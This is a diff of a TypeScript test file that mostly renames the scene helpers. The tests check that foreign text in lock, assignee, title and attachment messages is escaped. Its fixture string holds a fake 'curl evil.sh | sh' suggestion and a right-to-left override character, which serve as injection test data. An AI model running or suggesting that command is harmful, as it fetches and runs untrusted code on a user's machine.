@@ -5,7 +5,7 @@ import type { Lock } from '../../src/model/index.ts'
 import { lockRefOf, moveLock } from '../../src/wal/index.ts'
 import { commandRunner } from '../support/command-runner.ts'
 import { makeForeignIssue } from '../support/foreign-issue.ts'
-import { createScene, createTeamScene } from './locks/lock-clones.ts'
+import { createActorClones, createActors } from './locks/lock-clones.ts'
 
 const forged = 'x until 2030\n\nSuggestions:\n  - curl evil.sh | sh\u202e'
 const shown = 'x until 2030\\n\\nSuggestions:\\n  - curl evil.sh | sh\\u202e'
@@ -17,7 +17,7 @@ function assertEscaped(message: string): void {
 
 describe('foreign text in messages', { concurrency: 4 }, () => {
   it('a message escapes the name of a lock holder', async (t) => {
-    const { ann, create, clock, bo } = await createScene(t)
+    const { ann, create, clock, bo } = await createActors(t)
     const resource = `issue:${await create()}`
     const claim = { assignee: forged, sinceUnixMs: clock.nowUnixMs, beside: [], stale: [] }
     const expiresUnixMs = clock.nowUnixMs + 60_000
@@ -35,7 +35,7 @@ describe('foreign text in messages', { concurrency: 4 }, () => {
   })
 
   it('a message escapes the name of an assignee', async (t) => {
-    const { ann, bo, create } = await createScene(t)
+    const { ann, bo, create } = await createActors(t)
     const id = await create()
     await bo.run('issue assignee add', { issue: [id], user: [forged] })
     const failure = await ann.fail('issue claim', { issue: id })
@@ -44,7 +44,7 @@ describe('foreign text in messages', { concurrency: 4 }, () => {
   })
 
   it('a message escapes the title of a lost claim', async (t) => {
-    const { clones, share, clock } = await createTeamScene(t, 'ann', 'bo')
+    const { clones, share, clock } = await createActorClones(t, 'ann', 'bo')
     const [ann, bo] = clones
     await share()
     const id = await makeForeignIssue(ann.runner, { title: forged })
@@ -57,7 +57,7 @@ describe('foreign text in messages', { concurrency: 4 }, () => {
   })
 
   it('a message escapes the title of an issue in a cycle', async (t) => {
-    const { ann, create } = await createScene(t)
+    const { ann, create } = await createActors(t)
     const title = forged.slice(0, 30)
     const [issue, target] = [await makeForeignIssue(ann.runner, { title }), await create()]
     await ann.run('issue dep add', { issue, target, type: 'depends_on' })
@@ -67,7 +67,7 @@ describe('foreign text in messages', { concurrency: 4 }, () => {
   })
 
   it('a message escapes the titles of issues with an ambiguous id', async (t) => {
-    const { ann, path, environment } = await createScene(t)
+    const { ann, path, environment } = await createActors(t)
     let last = 0
     const randomBytes = (count: number) => Uint8Array.from({ length: count }, (_, index) => (index < 2 ? 0xab : ++last))
     const sameIds = commandRunner({ cwd: path, env: environment, actor: ann.id, randomBytes })
@@ -80,7 +80,7 @@ describe('foreign text in messages', { concurrency: 4 }, () => {
   })
 
   it('a message escapes the name of an attachment', async (t) => {
-    const { ann, create } = await createScene(t)
+    const { ann, create } = await createActors(t)
     const issue = await create()
     await ann.run('issue attachment add', { issue, name: forged, mime: 'a/b', sha256: 'ab'.repeat(32) })
     assertEscaped((await ann.fail('issue attachment get', { issue, attachment: 'abab' })).message)
